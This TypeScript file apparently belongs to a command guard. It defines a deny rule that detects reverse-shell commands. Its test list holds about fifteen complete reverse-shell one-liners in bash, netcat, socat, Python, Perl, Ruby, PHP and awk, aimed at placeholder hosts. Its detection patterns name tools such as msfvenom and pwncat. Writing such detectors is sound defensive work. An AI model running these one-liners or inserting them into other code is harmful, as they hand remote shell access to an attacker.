import type { Effect } from "../../core/action.ts";
import type { Hit, Rule, Scene } from "../rule.ts";
import { watching } from "../watching.ts";

const reverseShell: Rule = {
  id: "network/reverse-shell",
  irreversible: false,
  verdict: "deny",
  says: "it gives somebody else a shell",
  instead: "nc -z example.org 443",
  find: watching({ effects: ["read", "write"], programs: (name) => connecting.test(name) }, (scene) => [
    ...scene.effects.flatMap((effect) => (givesShell(effect) ? [spanned(effect)] : [])),
    ...throughSocket(scene),
    ...throughPipe(scene.effects),
  ]),
  mustBlock: [
    "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "bash -c 'bash -i >& /dev/tcp/evil.example/443 0>&1'",
    "nc -e /bin/sh 203.0.113.7 4444",
    "ncat 203.0.113.7 4444 --exec /bin/bash",
    "nc -lvp 4444 -e /bin/bash",
    "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f",
    "socat TCP:203.0.113.7:4444 EXEC:/bin/sh,pty,stderr",
    'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")\'',
    'perl -e \'use Socket;socket(S,2,1,0);connect(S,sockaddr_in(4444,inet_aton("203.0.113.7")));open(STDIN,">&S");exec("/bin/sh -i");\'',
    'ruby -rsocket -e \'c=TCPSocket.new("203.0.113.7",4444);while(x=c.gets);IO.popen(x,"r"){|i|c.print i.read}end\'',
    'php -r \'$s=fsockopen("203.0.113.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
    "awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.7/4444\"; while (1) { s |& getline c; c | getline }}'",
    "exec 5<>/dev/tcp/203.0.113.7/4444; sh <&5 >&5 2>&5",
    "python3 -c \"import socket,os,pty; s=socket.create_connection(('203.0.113.5',9001)); [os.dup2(s.fileno(),i) for i in range(3)]; pty.spawn('/bin/sh')\"",
    "busybox nc 203.0.113.7 4444 -e sh",
  ],
  mustAllow: [
    "nc -z localhost 5432",
    "nc -zv db.example.org 5432",
    "timeout 2 bash -c '</dev/tcp/localhost/5432'",
    "timeout 1 bash -c 'cat < /dev/null > /dev/tcp/db.example.org/5432'",
    "(echo > /dev/tcp/127.0.0.1/6379) 2>/dev/null && echo up",
    "echo ping | nc -w 1 localhost 9000",
    "python3 -c 'import socket; s=socket.socket(); s.bind((\"\",0)); print(s.getsockname()[1])'",
    "grep -rn 'bash -i >& /dev/tcp' docs",
    "socat -u FILE:/tmp/in STDOUT",
    'node -e \'require("net").connect(5432).on("connect", () => process.exit(0))\'',
  ],
};

// Programs that `givesShell` knows, and those that connect for `throughPipe`.
const connecting =
  /^(nc|ncat|netcat|nc\.\w+|socat|msfvenom|msfconsole|pwncat|pwncat-cs|villain|weevely|[gm]?awk|python[\d.]*|perl|ruby|php|lua|node|nodejs|bun|xterm|telnet|openssl)$/;

function givesShell(effect: Effect): boolean {
  if (effect.kind !== "execute" || !connecting.test(effect.program ?? "")) return false;
  const { program = "", args } = effect;
  const text = `${args.join(" ")} ${effect.input ?? ""}`.slice(0, textAtMost);
  if (/^(nc|ncat|netcat|nc\.\w+)$/.test(program))
    return args.some((arg) => /^-[a-zA-Z]*[ec]$|^--(sh-)?exec|^--lua-exec/.test(arg ?? ""));
  if (program === "socat")
    return /\b(EXEC|SYSTEM|SHELL):/i.test(text) && /\b(TCP|UDP|SSL|OPENSSL|SCTP|VSOCK)\w*[:-]/i.test(text);
  if (/^(msfvenom|msfconsole|pwncat|pwncat-cs|villain|weevely)$/.test(program)) return true;
  if (/^[gm]?awk$/.test(program)) return /\/inet\d?\/(tcp|udp)\//.test(text);
  if (/^python[\d.]*$/.test(program))
    return (
      /\bsocket\b/.test(text) &&
      /\b(create_)?connect(ion|_ex)?\b/.test(text) &&
      /\bdup2\b|\bpty\b|\bsubprocess\b|os\.(system|popen)/.test(text)
    );
  if (program === "perl")
    return (
      /\bsocket\b/i.test(text) &&
      /\bexec\b|\bsystem\b|open\s*\(?\s*STD/.test(text) &&
      /connect|PeerAddr/i.test(text)
    );
  if (program === "ruby")
    return /TCPSocket|Socket\.tcp/.test(text) && /\bexec\b|popen|\bspawn\b|`|\bsh\b/.test(text);
  if (program === "php")
    return (
      /fsockopen|stream_socket_client|socket_connect/.test(text) &&
      /\b(exec|shell_exec|system|passthru|proc_open|popen)\b|`/.test(text)
    );
  if (program === "lua") return /socket/.test(text) && /os\.execute|io\.popen/.test(text);
  if (/^(node|nodejs|bun)$/.test(program))
    return (
      /\bnet\b/.test(text) &&
      /child_process/.test(text) &&
      /connect|Socket/.test(text) &&
      /pipe|std(in|out)/.test(text)
    );
  return (
    program === "xterm" &&
    args.some((arg, i) => arg === "-display" && !/^(localhost)?:\d/.test(args[i + 1] ?? ""))
  );
}

/** A shell whose input or output is a connection that the shell itself opens. A `-c` that only tries a port is none. */
function throughSocket({ effects, reading }: Scene): readonly Hit[] {
  const sockets = effects.flatMap((effect) =>
    (effect.kind === "write" || effect.kind === "read") &&
    /^\/dev\/(tcp|udp)\/(?!localhost\/|127\.|0\.0\.0\.0)/.test(effect.path ?? "/dev/tcp/")
      ? effect.path === undefined
        ? []
        : [effect]
      : [],
  );
  if (sockets.length === 0) return [];
  const shell = effects.some(
    (effect) =>
      effect.kind === "execute" &&
      shells.test(effect.program ?? "") &&
      !effect.args.some((arg) => arg === undefined || /^-\w*c$/.test(arg)),
  );
  const runs = reading.problems.some(({ kind }) => kind === "opaque-command" || kind === "opaque-body");
  return shell || runs ? sockets.map(spanned) : [];
}

const shells = /^(ba|z|da|k|a|fi)?sh$/;

/** `mkfifo f; nc host port < f | sh > f`: a shell and a connection in a ring. */
function throughPipe(effects: readonly Effect[]): readonly Hit[] {
  const started = (names: RegExp): Effect | undefined =>
    effects.find((effect) => effect.kind === "execute" && names.test(effect.program ?? ""));
  const connection = started(/^(nc|ncat|netcat|telnet|openssl)$/);
  const ring = started(/^(mkfifo|mknod)$/);
  return connection !== undefined && ring !== undefined && started(shells) !== undefined
    ? [spanned(connection)]
    : [];
}

const textAtMost = 20_000;

export const rules: readonly Rule[] = [reverseShell];

function spanned({ span }: Effect): Hit {
  return span === undefined ? {} : { span };
}
